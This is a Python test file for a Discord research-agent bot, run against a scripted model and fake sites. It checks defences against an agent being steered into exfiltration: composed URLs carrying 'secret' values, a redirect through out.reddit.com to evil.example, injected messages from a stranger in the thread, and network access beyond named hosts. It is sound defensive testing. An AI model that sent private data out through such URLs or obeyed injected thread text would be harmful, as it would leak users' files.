"""Goals on the web, through Discord, on sites of our own. Run by test_research.py in a namespace."""

import json
import re
from collections.abc import AsyncGenerator
from contextlib import AsyncExitStack
from pathlib import Path
from typing import Any

import aiohttp
import pytest_asyncio

from bot.app import running
from bot.reporter import Pace
from playground import Playground
from tests.fakes import ScriptedModel
from tests.flow.conftest import Stage, settings_for
from tests.flow.people import People, attached, emoji_of
from tests.security.web.within.town import Town, hit, open_town

REPORT = """
import matplotlib
matplotlib.use("Agg")
import matplotlib.pyplot as plt
from matplotlib.backends.backend_pdf import PdfPages
text = "# Otters\\n\\n" + "\\n".join(f"- Fact {n} [{n}]" for n in range(1, 6))
open("report.md", "w").write(text)
with PdfPages("report.pdf") as pdf:
    page = plt.figure()
    page.text(0.1, 0.5, text)
    pdf.savefig(page)
"""


@pytest_asyncio.fixture
async def town() -> AsyncGenerator[Town]:
    async with open_town() as served:
        yield served


@pytest_asyncio.fixture
async def stage(redis_url: str, tmp_path: Path, town: Town) -> AsyncGenerator[Stage]:
    """The bot, up and connected, with a search engine of its own."""
    async with AsyncExitStack() as stack:
        playground = await stack.enter_async_context(
            Playground(tmp_path / "playground", 0, rate_limits=False)
        )
        http = await stack.enter_async_context(aiohttp.ClientSession())
        people = await People(http=http, url=playground.url).new_server("tests")
        model = await stack.enter_async_context(ScriptedModel.open())
        settings = settings_for(
            playground,
            redis_url,
            model.base_url,
            tmp_path / "data",
            SEARCH_URL="http://search.example/search",
        )
        up = await stack.enter_async_context(running(settings, pace=Pace(young_s=0.05)))
        await people.until_bot_is_ready()
        yield Stage(people=people, model=model, control=up.control, settings=settings)


def otters(town: Town) -> list[str]:
    urls = [
        town.page(
            f"good{n}.example/otters",
            f"<html><head><title>Otters {n}</title></head><body><main><h1>Fact {n}</h1><p>"
            + f"Otters hold paws while they sleep, says study {n}, and they eat urchins all day. " * 4
            + "</p></main></body></html>",
        )
        for n in range(1, 6)
    ]
    town.hits = [hit(url, f"Otters {n}", f"Fact {n} about otters") for n, url in enumerate(urls, 1)]
    return urls


def read(url: str) -> tuple[str, dict[str, Any]]:
    return ("read_page", {"url": url})


async def test_a_report_with_numbered_sources_is_written_from_five_pages(stage: Stage, town: Town):
    urls = otters(town)
    stage.model.will("I search", ("search", {"query": "otters"}))
    for url in urls:
        stage.model.will("I read", read(url))
    stage.model.will("I write", ("run_python", {"code": REPORT}))
    summary = "Otters hold paws while asleep [1]. They eat urchins all day [2][3]. They can fly. See http://good1.example/x."
    stage.model.will("", ("finish", {"summary": summary, "files": ["report.md", "report.pdf"]}))
    thread = await stage.people.goal("write a report on otters", autonomy="auto")
    await thread.says("finished, unchecked")
    text = await thread.text()
    assert "Otters hold paws while asleep [1]. *(sourced: 1)*" in text
    assert "They eat urchins all day [2][3]. *(sourced: 2, 3)*" in text
    assert "They can fly. *(unverified)*" in text
    assert "**Sources**" in text
    assert re.search(r"\[2\] Otters 2 hxxp://good2\.example/otters", text)
    assert "hxxp://good1.example/x" in text
    assert not re.search(r"https?://", re.sub(r"```.*?```|`[^`\n]*`", "", text, flags=re.DOTALL))
    files = await thread.files()
    assert files["report.md"].startswith(b"# Otters")
    assert files["report.pdf"].startswith(b"%PDF")
    assert town.searched == ["otters"]
    assert sorted(town.visited) == sorted(url.removeprefix("http://") for url in urls)
    last = stage.model.requests[-1]["messages"]
    fence = re.search(r"<<<outside (\w+) source=1 ", last[4]["content"] + last[5]["content"])
    assert fence
    assert fence[1] not in text
    state = await stage.state(thread)
    assert [source.number for source in state.marks.sources] == [1, 2, 3, 4, 5]
    card = next(one["content"] for one in await thread.messages() if "🎯" in one["content"])
    assert "tainted by `good5.example`" in card


async def test_composed_addresses_ask_only_once_something_private_is_there(stage: Stage, town: Town):
    otters(town)
    for n in range(8):
        stage.model.will(
            "", ("search", {"query": f"otters {n}"}), read(f"http://good1.example/composed?n={n}")
        )
    stage.model.will("", ("finish", {"summary": "ok"}))
    thread = await stage.people.goal("look at otters", autonomy="auto")
    await thread.says("finished, unchecked")
    assert not [one for one in await thread.messages() if "❌" in emoji_of(one)]

    stage.model.will("", ("search", {"query": "otters"}))
    stage.model.will("", read("http://good2.example/otters"))
    for n in range(2):
        stage.model.will("", read(f"http://good1.example/leak?secret={n}"))
    stage.model.will("", ("finish", {"summary": "ok"}))
    thread = await stage.people.goal(
        "look again", autonomy="auto", file=0, files=[attached("a.csv", b"secret")]
    )
    first = await thread.proposal(1)
    assert "http://good1.example/leak?secret=0" in first["content"]
    assert "good2.example" in first["content"]
    assert "🔁" not in emoji_of(first)
    assert not any("leak" in place for place in town.visited)
    await thread.press(first, "✅")
    await thread.press(await thread.proposal(2), "❌")
    await thread.says("finished, unchecked")
    assert [place for place in town.visited if "leak" in place] == ["good1.example/leak?secret=0"]


async def test_a_platform_that_redirects_carries_nothing_private_away(stage: Stage, town: Town):
    otters(town)
    town.leads["out.reddit.com/go"] = "url"
    leak = "http://out.reddit.com/go?url=http://evil.example/secret"
    stage.model.will("", read("http://good1.example/otters"))
    stage.model.will("", read(leak), ("fetch_file", {"url": leak, "path": "x.txt"}))
    stage.model.will("", ("finish", {"summary": "ok"}))
    files = [attached("a.csv", b"secret")]
    thread = await stage.people.goal("look", autonomy="auto", file=0, files=files)
    await thread.says("finished, unchecked")
    seen = [str(one["content"]) for one in stage.model.requests[-1]["messages"]]
    assert sum("leads on to evil.example" in one for one in seen) == 2
    assert not any("evil" in place.partition("?")[0] for place in town.visited)


async def test_words_and_files_of_a_stranger_in_the_thread_never_reach_the_model(stage: Stage):
    stage.model.will("", ("ask", {"question": "what now?"}))
    thread = await stage.people.goal("look", autonomy="auto")
    asked = await thread.says("what now?")
    sam = await stage.people.member("Sam")
    files = [attached("heron.txt", b"INJECTED file")]
    await thread.write("INJECTED words", user_id=sam, reply_to=asked["id"], files=files)
    await thread.write("!INJECTED interruption", user_id=sam)
    stage.model.will("", ("list_files", {"path": "."}))
    stage.model.will("", ("finish", {"summary": "ok"}))
    await thread.write("go on", reply_to=asked["id"])
    await thread.says("finished, unchecked")
    whole = json.dumps(stage.model.requests)
    assert "go on" in whole
    assert "INJECTED" not in whole
    assert "heron" not in whole


async def test_a_page_that_is_an_error_says_so(stage: Stage, town: Town):
    stage.model.will("", read("http://good1.example/nothing"))
    stage.model.will("", ("finish", {"summary": "ok"}))
    thread = await stage.people.goal("look", autonomy="auto")
    await thread.says("finished, unchecked")
    assert "status 404: this may be no page" in str(stage.model.requests[-1]["messages"][-1]["content"])


async def test_what_could_run_is_zipped_and_labelled_once_strangers_were_read(stage: Stage, town: Town):
    otters(town)
    stage.model.will("", read("http://good1.example/otters"))
    for name in ("x.html", "x.SVG", "run.sh"):
        stage.model.will("", ("write_file", {"path": name, "content": "<script>1</script>"}))
    stage.model.will("", ("write_file", {"path": "notes.md", "content": "notes"}))
    stage.model.will("", ("finish", {"summary": "ok", "files": ["x.html", "x.SVG", "run.sh", "notes.md"]}))
    thread = await stage.people.goal("write a page", autonomy="auto")
    await thread.says("📦 zipped: `x.html`, `x.SVG`, `run.sh`")
    assert set(await thread.files()) == {"x.html.zip", "x.SVG.zip", "run.sh.zip", "notes.md"}
    again = await stage.people.command("files", channel_id=thread.id, path="x.html")
    assert [one["filename"] for one in again["attachments"]] == ["x.html.zip"]
    assert "look before you run it" in again["content"]
    plain = await stage.people.command("files", channel_id=thread.id, path="notes.md")
    assert [one["filename"] for one in plain["attachments"]] == ["notes.md"]


async def test_code_reaches_the_named_host_and_no_other(stage: Stage, town: Town):
    town.page("good1.example/data", "forty-two", "text/plain")
    code = (
        "import urllib.request\n"
        "print(urllib.request.urlopen('http://good1.example/data').read())\n"
        "for url in ('http://good2.example/', 'http://127.0.0.1/', 'http://private.example/'):\n"
        "    try: urllib.request.urlopen(url); print('reached', url)\n"
        "    except Exception as error: print(type(error).__name__, error)\n"
    )
    stage.model.will("", ("run_online", {"code": code, "hosts": ["good1.example", "private.example"]}))
    stage.model.will("", ("finish", {"summary": "ok"}))
    thread = await stage.people.goal("fetch data", autonomy="auto")
    await thread.says("finished, unchecked")
    seen = stage.model.requests[-1]["messages"][-1]["content"]
    assert "forty-two" in seen
    assert "reached" not in seen
    assert seen.count("HTTPError HTTP Error 403") == 3
    assert town.visited == ["good1.example/data"]
    state = await stage.state(thread)
    assert state.marks.places == ("https://good1.example/", "https://private.example/")
